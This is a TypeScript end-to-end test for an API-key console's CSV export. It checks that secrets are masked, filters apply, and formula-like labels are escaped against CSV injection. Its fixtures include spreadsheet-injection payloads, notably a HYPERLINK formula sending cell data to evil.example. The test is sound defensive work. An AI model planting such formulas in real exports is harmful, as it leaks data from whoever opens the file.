import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { openAuditedDatabase } from '../../server/audit/audited-database.ts';
import { fillSearchTexts } from '../../server/database/key-search.ts';
import { fillOrganization } from '../support/filled-organization.ts';
import { signIn, startConsole } from './console.ts';
import { createKey, inDatabase } from './demo-keys.ts';

/** Labels that a spreadsheet would take for a formula, and how they must stand in the file. */
const formulas: Readonly<Record<string, string>> = {
  '=HYPERLINK("http://evil.example/?"&A1)': `'=HYPERLINK("http://evil.example/?"&A1)`,
  '+1+1': "'+1+1",
  '-2+3': "'-2+3",
  '@SUM(A1)': "'@SUM(A1)",
  '  =1': "'  =1",
  // Characters that no reader sees are written out.
  '\t=1': '\\u{9}=1',
  '\r=1': '\\u{d}=1',
  '\n=1': '\\u{a}=1',
};

const plain = ['say "hi", then leave', 'a=b-c', 'Größe, 大きさ', 'ends with "'];

/** Reads CSV by RFC 4180: CRLF after each record, a quote in a quoted cell is doubled. */
function parseCsv(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, cell = '', end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    row.push(cell.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  // Nothing stands between the cells that were found.
  const written = rows.map((cells) =>
    cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','),
  );
  expect(`${written.join('\r\n')}\r\n`).toBe(text);
  return rows;
}

async function exported(page: Page): Promise<{ text: string; rows: string[][] }> {
  const started = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const download = await started;
  expect(download.suggestedFilename()).toBe('api-keys.csv');
  const text = await readFile(await download.path(), 'utf8');
  return { text, rows: parseCsv(text) };
}

test('Export CSV saves every key that the filters show, without secrets and without formulas', async () => {
  await using console = await startConsole();
  const key = await createKey(console, { label: 'Real', scopes: ['repos:read', 'repos:analyze'] });
  {
    await using database = await openAuditedDatabase(console.databaseUrl);
    await fillOrganization(database, 260, Date.now());
  }
  const labels = [...Object.keys(formulas), ...plain];
  for (const [n, label] of labels.entries()) {
    await inDatabase(
      console,
      "update api_key set label = ? where id like '%' || ?",
      label,
      `000${10 + n}`,
    );
  }
  await inDatabase(console, "update sub_org set name = '=1+1' where id = 1");
  {
    await inDatabase(console, 'delete from key_search');
    await using database = await openAuditedDatabase(console.databaseUrl);
    await fillSearchTexts(database);
  }

  await using session = await console.open({ acceptDownloads: true });
  const { page } = session;
  await signIn(page, 'Parent admin', '/settings/api-access?sort=created_at');
  await page.getByText('CI pipeline 1', { exact: true }).waitFor();
  await page.getByText('=1+1').first().waitFor({ state: 'attached' });
  const { text, rows } = await exported(page);
  await page.getByText('Exported 261 keys.').waitFor();

  const [head = [], ...keys] = rows;
  expect(head.slice(0, 5)).toEqual(['id', 'label', 'preview', 'status', 'sub_organization']);
  expect(new Set(keys.map((cells) => cells.length))).toEqual(new Set([head.length]));
  expect(new Set(keys.map(([id]) => id)).size).toBe(261);
  const shown = keys.slice(10, 10 + labels.length).map(([, label]) => label);
  expect(shown).toEqual([...Object.values(formulas), ...plain]);
  expect(new Set(keys.map((cells) => cells[4]))).toEqual(new Set(['', "'=1+1", 'Mobile']));
  // A spreadsheet decides by the first character.
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

  const real = keys.find(([id]) => id === key.id);
  expect(real?.[2]).toBe(`${key.raw.slice(0, 13)}••••${key.raw.slice(-4)}`);
  expect(real).toContain('repos:read repos:analyze');
  expect(text).not.toContain(key.raw.slice(13, -4));

  await page.getByLabel('Search keys').fill('audit 2');
  await page.getByText('CI pipeline 1', { exact: true }).waitFor({ state: 'detached' });
  const found = (await exported(page)).rows.slice(1).map(([, label]) => label);
  expect(found.length).toBeGreaterThan(10);
  expect(found.filter((label) => !label?.startsWith('Nightly audit 2'))).toEqual([]);
});
